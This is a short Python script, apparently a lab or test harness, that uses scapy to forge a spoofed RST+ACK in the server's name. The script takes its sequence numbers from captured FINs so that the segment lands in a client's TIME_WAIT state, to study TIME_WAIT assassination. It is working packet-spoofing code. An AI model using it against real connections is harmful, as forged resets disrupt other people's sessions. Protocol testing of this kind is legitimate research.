#!/usr/bin/env python3
"""Send one crafted RST (scapy, L3 raw socket) for tw_assassination.

    rst_inject.py PCAP SRV_IP SRV_PORT CLI_IP CLI_PORT OFFSET

Reads PCAP (being written by tcpdump -U) to find the FIN the server sent on
that 4-tuple, then sends from SRV to CLI an RST+ACK with
seq = server FIN seq + 1 + OFFSET (OFFSET 0 = exactly what the client's
TIME_WAIT expects next) and ack = client FIN seq + 1.  Prints the numbers."""
import sys
from scapy.all import IP, TCP, rdpcap, send, conf  # type: ignore

conf.verb = 0
pcap, sip, sport, cip, cport, off = sys.argv[1:7]
sport, cport, off = int(sport), int(cport), int(off)
srv_fin = cli_fin = None
for p in rdpcap(pcap):
    if IP not in p or TCP not in p:
        continue
    ip, t = p[IP], p[TCP]
    if t.flags & 0x01:
        if (ip.src, t.sport, ip.dst, t.dport) == (sip, sport, cip, cport):
            srv_fin = t.seq
        elif (ip.src, t.sport, ip.dst, t.dport) == (cip, cport, sip, sport):
            cli_fin = t.seq
if srv_fin is None or cli_fin is None:
    raise SystemExit("FINs not found in %s" % pcap)
seq = (srv_fin + 1 + off) & 0xFFFFFFFF
ack = (cli_fin + 1) & 0xFFFFFFFF
send(IP(src=sip, dst=cip) / TCP(sport=sport, dport=cport, flags="RA", seq=seq, ack=ack, window=0))
print("server_fin_seq=%d rst_seq=%d rst_ack=%d offset=%d" % (srv_fin, seq, ack, off))
